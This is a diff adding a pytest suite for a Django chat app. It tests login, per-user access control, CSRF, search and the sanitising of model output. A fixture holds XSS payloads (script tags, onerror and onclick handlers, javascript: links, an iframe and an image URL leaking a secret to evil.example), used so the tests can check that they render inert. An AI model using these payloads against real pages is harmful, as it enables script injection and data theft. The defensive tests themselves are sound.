@@ -1,0 +1,416 @@
+"""The chat pages: who may see and change what, and that model output stays inert."""
+
+import json
+import re
+from html.parser import HTMLParser
+
+import pytest
+from django.contrib.auth.models import User
+from django.test import Client
+from django.urls import reverse
+
+from chat.models import Conversation, Message
+
+pytestmark = pytest.mark.django_db
+
+HOSTILE = (
+    "<script>alert('s')</script>\n\n"
+    "<img src=x onerror=alert('i')>\n\n"
+    "[click](javascript:alert('j'))\n\n"
+    '<a href="javascript:alert(\'a\')">raw link</a> <iframe src="https://evil.example"></iframe>\n\n'
+    "<style>body{display:none}</style> <div onclick=\"alert('d')\">div</div>\n\n"
+    "![pixel](https://evil.example/leak.png?q=secret)"
+)
+
+
+@pytest.fixture
+def alice() -> User:
+    return User.objects.create_user("alice", password="alice-password-1")
+
+
+@pytest.fixture
+def bob() -> User:
+    return User.objects.create_user("bob", password="bob-password-1")
+
+
+@pytest.fixture
+def alice_client(client: Client, alice: User) -> Client:
+    client.force_login(alice)
+    return client
+
+
+@pytest.fixture
+def bobs_chat(bob: User) -> Conversation:
+    chat = Conversation.objects.create(user=bob, title="Bob's secret plans")
+    Message.objects.create(conversation=chat, role="user", content="bob question")
+    return chat
+
+
+def reply(conversation: Conversation, content: str, **fields) -> Message:
+    question = Message.objects.create(conversation=conversation, role="user", content="question")
+    return Message.objects.create(
+        conversation=conversation, role="assistant", content=content, reply_to=question, **fields
+    )
+
+
+def page_config(response) -> dict:
+    match = re.search(
+        r'<script id="chat-config" type="application/json">(.*?)</script>', response.content.decode()
+    )
+    return json.loads(match.group(1))
+
+
+def sidebar_ids(response) -> list[int]:
+    found = re.findall(
+        r'data-testid="conversation-item" data-conversation-id="(\d+)"', response.content.decode()
+    )
+    return [int(pk) for pk in found]
+
+
+class _Tags(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict]] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, {name: value or "" for name, value in attrs}))
+
+
+def assert_inert(html: str) -> None:
+    """Parse as a browser would: hostile markup may survive only as text, never as elements."""
+    parser = _Tags()
+    parser.feed(html)
+    for tag, attrs in parser.tags:
+        assert tag not in {"script", "style", "iframe", "img", "object", "embed", "form", "svg"}, tag
+        assert not [name for name in attrs if name.startswith("on")], (tag, attrs)
+        for name in ("href", "src", "action", "formaction"):
+            value = attrs.get(name, "").strip().lower()
+            assert not value.startswith(("javascript:", "data:", "vbscript:")), (tag, attrs)
+        if tag == "a":
+            assert attrs["rel"] == "noopener noreferrer nofollow"
+
+
+# --- sign-in ----------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "name, args",
+    [
+        ("chat:home", []),
+        ("chat:new", []),
+        ("chat:conversation", [1]),
+        ("chat:messages", [1]),
+        ("chat:message", [1, 1]),
+    ],
+)
+def test_it_requires_sign_in(client, name, args):
+    response = client.get(reverse(name, args=args))
+    assert response.status_code == 302
+    assert response["Location"].startswith(reverse("login"))
+
+
+def test_it_shows_the_login_page(client):
+    response = client.get(reverse("login"))
+    assert response.status_code == 200
+    assert b'name="username"' in response.content
+    assert b"csrfmiddlewaretoken" in response.content
+
+
+def test_it_signs_in(client, alice):
+    response = client.post(reverse("login"), {"username": "alice", "password": "alice-password-1"})
+    assert response.status_code == 302
+    assert response["Location"] == reverse("chat:home")
+
+
+def test_it_shows_the_password_change_page(alice_client):
+    response = alice_client.get(reverse("password_change"))
+    assert response.status_code == 200
+    assert b'name="new_password1"' in response.content
+
+
+# --- home and the conversation page -----------------------------------------------------------
+
+
+def test_it_shows_a_new_chat_when_there_are_no_conversations(alice_client):
+    response = alice_client.get(reverse("chat:home"))
+    assert response.status_code == 200
+    assert b'data-testid="composer"' in response.content
+    assert page_config(response)["conversation"] is None
+
+
+def test_it_redirects_home_to_the_newest_conversation(alice_client, alice):
+    older = Conversation.objects.create(user=alice, title="older")
+    newer = Conversation.objects.create(user=alice, title="newer")
+    Conversation.objects.filter(pk=older.pk).update(updated_at=newer.updated_at.replace(year=2000))
+    response = alice_client.get(reverse("chat:home"))
+    assert response["Location"] == reverse("chat:conversation", args=[newer.pk])
+
+
+def test_it_does_not_redirect_to_someone_elses_conversation(alice_client, bobs_chat):
+    response = alice_client.get(reverse("chat:home"))
+    assert response.status_code == 200
+    assert b"Bob&#x27;s secret plans" not in response.content
+
+
+def test_it_lists_conversations_newest_first(alice_client, alice):
+    first = Conversation.objects.create(user=alice, title="first chat")
+    second = Conversation.objects.create(user=alice, title="second chat")
+    Conversation.objects.filter(pk=first.pk).update(updated_at=second.updated_at.replace(year=2000))
+    response = alice_client.get(reverse("chat:conversation", args=[first.pk]))
+    assert sidebar_ids(response) == [second.pk, first.pk]
+
+
+def test_it_shows_a_conversation(alice_client, alice):
+    chat = Conversation.objects.create(user=alice, title="Soup")
+    answer = reply(
+        chat, "Use **leeks**.", prompt_tokens=12, completion_tokens=40, ttft_ms=250.0, duration_ms=2250.0
+    )
+    response = alice_client.get(reverse("chat:conversation", args=[chat.pk]))
+    body = response.content.decode()
+    assert response.status_code == 200
+    assert "<strong>leeks</strong>" in body
+    assert f'data-message-id="{answer.pk}"' in body
+    assert "12 prompt · 40 completion tokens · first token 250 ms · 2.2 s total · 20.0 tok/s" in body
+    config = page_config(response)
+    assert config["conversation"]["id"] == chat.pk
+    assert config["conversation"]["ws_path"] == f"/ws/chat/{chat.pk}/"
+
+
+def test_it_leaves_out_earlier_versions_of_replies(alice_client, alice):
+    chat = Conversation.objects.create(user=alice)
+    reply(chat, "first version", superseded=True)
+    reply(chat, "second version")
+    body = alice_client.get(reverse("chat:conversation", args=[chat.pk])).content.decode()
+    assert "second version" in body
+    assert "first version" not in body
+
+
+def test_it_badges_a_failed_reply_and_offers_retry(alice_client, alice):
+    chat = Conversation.objects.create(user=alice)
+    reply(
+        chat,
+        "partial",
+        status="failed",
+        error_code="upstream_unavailable",
+        error_detail="The model provider had a server error.",
+    )
+    body = alice_client.get(reverse("chat:conversation", args=[chat.pk])).content.decode()
+    assert "The model provider had a server error." in body
+    assert re.search(r'data-testid="message-status"\s*>Failed<', body)
+    assert 'data-testid="retry"' in body
+
+
+def test_it_shows_a_streaming_reply_as_plain_text(alice_client, alice):
+    chat = Conversation.objects.create(user=alice)
+    reply(chat, "**half", status="streaming")
+    body = alice_client.get(reverse("chat:conversation", args=[chat.pk])).content.decode()
+    assert 'data-status="streaming"' in body
+    assert ">**half</div>" in body
+
+
+def test_it_hides_other_users_conversations(alice_client, bobs_chat):
+    response = alice_client.get(reverse("chat:conversation", args=[bobs_chat.pk]))
+    assert response.status_code == 404
+
+
+# --- demo mode --------------------------------------------------------------------------------
+
+
+def test_it_labels_the_demo_model(alice_client, settings):
+    settings.CHAT_DEMO = True
+    body = alice_client.get(reverse("chat:new")).content.decode()
+    assert 'data-testid="demo-label"' in body
+    assert "Demo model — not a real LLM" in body
+    assert "OPENAI_API_KEY" in body
+
+
+def test_it_has_no_demo_label_with_a_real_provider(alice_client, settings):
+    settings.CHAT_DEMO = False
+    settings.OPENAI_API_KEY = "sk-live-DO-NOT-LEAK"
+    body = alice_client.get(reverse("chat:new")).content.decode()
+    assert 'data-testid="demo-label"' not in body
+    assert "sk-live-DO-NOT-LEAK" not in body
+
+
+# --- create, rename, delete, settings ---------------------------------------------------------
+
+
+def test_it_creates_a_conversation(alice_client, alice):
+    response = alice_client.post(
+        reverse("chat:create"), {"title": "  Plan   a\ntrip "}, HTTP_ACCEPT="application/json"
+    )
+    assert response.status_code == 201
+    chat = Conversation.objects.get(user=alice)
+    assert chat.title == "Plan a trip"
+    assert response.json()["url"] == reverse("chat:conversation", args=[chat.pk])
+    assert response.json()["ws_path"] == f"/ws/chat/{chat.pk}/"
+
+
+def test_it_creates_a_conversation_from_a_form(alice_client, alice):
+    response = alice_client.post(reverse("chat:create"))
+    chat = Conversation.objects.get(user=alice)
+    assert response["Location"] == reverse("chat:conversation", args=[chat.pk])
+
+
+def test_it_refuses_get_on_post_endpoints(alice_client, alice):
+    chat = Conversation.objects.create(user=alice)
+    for name in ("chat:rename", "chat:delete", "chat:settings"):
+        assert alice_client.get(reverse(name, args=[chat.pk])).status_code == 405
+    assert alice_client.get(reverse("chat:create")).status_code == 405
+
+
+def test_it_requires_csrf_tokens(alice, alice_client):
+    chat = Conversation.objects.create(user=alice, title="keep")
+    strict = Client(enforce_csrf_checks=True)
+    strict.force_login(alice)
+    assert strict.post(reverse("chat:create")).status_code == 403
+    assert strict.post(reverse("chat:delete", args=[chat.pk])).status_code == 403
+    assert strict.post(reverse("chat:rename", args=[chat.pk]), {"title": "x"}).status_code == 403
+    assert Conversation.objects.filter(pk=chat.pk, title="keep").exists()
+
+
+def test_it_renames(alice_client, alice):
+    chat = Conversation.objects.create(user=alice, title="old")
+    response = alice_client.post(reverse("chat:rename", args=[chat.pk]), {"title": "new name"})
+    assert response.status_code == 302
+    chat.refresh_from_db()
+    assert chat.title == "new name"
+
+
+def test_it_renames_without_reordering_the_sidebar(alice_client, alice):
+    chat = Conversation.objects.create(user=alice, title="old")
+    before = chat.updated_at
+    alice_client.post(reverse("chat:rename", args=[chat.pk]), {"title": "new"})
+    chat.refresh_from_db()
+    assert chat.updated_at == before
+
+
+def test_it_deletes(alice_client, alice):
+    chat = Conversation.objects.create(user=alice)
+    reply(chat, "gone soon")
+    response = alice_client.post(reverse("chat:delete", args=[chat.pk]))
+    assert response["Location"] == reverse("chat:home")
+    assert not Conversation.objects.filter(pk=chat.pk).exists()
+    assert not Message.objects.filter(conversation_id=chat.pk).exists()
+
+
+def test_it_asks_before_deleting(alice_client, alice):
+    chat = Conversation.objects.create(user=alice)
+    body = alice_client.get(reverse("chat:conversation", args=[chat.pk])).content.decode()
+    assert 'id="delete-dialog"' in body
+    assert "cannot be undone" in body
+
+
+def test_it_sets_model_and_system_prompt(alice_client, alice):
+    chat = Conversation.objects.create(user=alice)
+    alice_client.post(
+        reverse("chat:settings", args=[chat.pk]), {"model": "llama3.2", "system_prompt": "Answer in French."}
+    )
+    chat.refresh_from_db()
+    assert (chat.model, chat.system_prompt) == ("llama3.2", "Answer in French.")
+
+
+def test_it_does_not_let_alice_change_bobs_conversation(alice_client, bobs_chat):
+    pk = bobs_chat.pk
+    assert alice_client.post(reverse("chat:rename", args=[pk]), {"title": "pwned"}).status_code == 404
+    assert alice_client.post(reverse("chat:settings", args=[pk]), {"model": "x"}).status_code == 404
+    assert alice_client.post(reverse("chat:delete", args=[pk])).status_code == 404
+    bobs_chat.refresh_from_db()
+    assert bobs_chat.title == "Bob's secret plans"
+    assert bobs_chat.model == ""
+
+
+# --- search -----------------------------------------------------------------------------------
+
+
+def test_it_searches_titles_and_message_text(alice_client, alice, bobs_chat):
+    by_title = Conversation.objects.create(user=alice, title="Lentil soup")
+    by_text = Conversation.objects.create(user=alice, title="Dinner")
+    reply(by_text, "Try a SOUP with leeks.")
+    other = Conversation.objects.create(user=alice, title="Taxes")
+    reply(other, "Nothing here.")
+    Message.objects.create(conversation=bobs_chat, role="user", content="soup for bob")
+    response = alice_client.get(reverse("chat:conversation", args=[other.pk]), {"q": "soup"})
+    assert sorted(sidebar_ids(response)) == sorted([by_title.pk, by_text.pk])
+
+
+def test_it_keeps_the_search_when_home_redirects(alice_client, alice):
+    chat = Conversation.objects.create(user=alice, title="soup")
+    response = alice_client.get(reverse("chat:home"), {"q": "soup"})
+    assert response["Location"] == reverse("chat:conversation", args=[chat.pk]) + "?q=soup"
+
+
+# --- message JSON -----------------------------------------------------------------------------
+
+
+def test_it_returns_a_rendered_message(alice_client, alice):
+    chat = Conversation.objects.create(user=alice)
+    answer = reply(
+        chat,
+        "| a | b |\n|---|---|\n| 1 | 2 |",
+        status="cancelled",
+        finish_reason="cancelled",
+        prompt_tokens=5,
+        completion_tokens=7,
+        ttft_ms=100.0,
+        duration_ms=600.0,
+    )
+    data = alice_client.get(reverse("chat:message", args=[chat.pk, answer.pk])).json()
+    assert data["id"] == answer.pk
+    assert "<table>" in data["html"]
+    assert data["status"] == "cancelled"
+    assert data["finish_reason"] == "cancelled"
+    assert (data["prompt_tokens"], data["completion_tokens"]) == (5, 7)
+    assert data["stats"] == "5 prompt · 7 completion tokens · first token 100 ms · 600 ms total · 14.0 tok/s"
+
+
+def test_it_lists_current_messages_as_json(alice_client, alice):
+    chat = Conversation.objects.create(user=alice)
+    reply(chat, "old", superseded=True)
+    reply(chat, "new")
+    data = alice_client.get(reverse("chat:messages", args=[chat.pk])).json()
+    assert [m["content"] for m in data["messages"]] == ["question", "question", "new"]
+
+
+def test_it_does_not_show_bobs_message_json(alice_client, bobs_chat):
+    message = bobs_chat.messages.get()
+    assert alice_client.get(reverse("chat:message", args=[bobs_chat.pk, message.pk])).status_code == 404
+    assert alice_client.get(reverse("chat:messages", args=[bobs_chat.pk])).status_code == 404
+
+
+def test_it_does_not_show_bobs_message_through_alices_conversation(alice_client, alice, bobs_chat):
+    mine = Conversation.objects.create(user=alice)
+    message = bobs_chat.messages.get()
+    assert alice_client.get(reverse("chat:message", args=[mine.pk, message.pk])).status_code == 404
+
+
+# --- hostile content --------------------------------------------------------------------------
+
+
+def test_it_renders_hostile_replies_inert_in_the_page(alice_client, alice):
+    chat = Conversation.objects.create(user=alice, title="<script>alert('title')</script>")
+    reply(chat, HOSTILE)
+    Message.objects.create(conversation=chat, role="user", content=HOSTILE)
+    body = alice_client.get(reverse("chat:conversation", args=[chat.pk])).content.decode()
+    # The page's own scripts are the module and the JSON config; nothing else.
+    scripts = re.findall(r"<script[^>]*>", body)
+    assert all('type="module"' in s or 'type="application/json"' in s for s in scripts)
+    main = body.split('<div class="messages"', 1)[1].split('<div class="empty-state"', 1)[0]
+    assert_inert(main)
+    assert "&lt;script&gt;alert(&#x27;s&#x27;)" in main or "&lt;script&gt;alert('s')" in main
+
+
+def test_it_renders_hostile_replies_inert_in_message_json(alice_client, alice):
+    chat = Conversation.objects.create(user=alice)
+    answer = reply(chat, HOSTILE)
+    data = alice_client.get(reverse("chat:message", args=[chat.pk, answer.pk])).json()
+    assert_inert(data["html"])
+    assert (
+        '<a href="https://evil.example/leak.png?q=secret" rel="noopener noreferrer nofollow">' in data["html"]
+    )
+
+
+def test_it_escapes_conversation_data_in_the_page_config(alice_client, alice):
+    chat = Conversation.objects.create(user=alice, title="</script><script>alert(1)</script>")
+    body = alice_client.get(reverse("chat:conversation", args=[chat.pk])).content.decode()
+    assert "</script><script>alert(1)" not in body
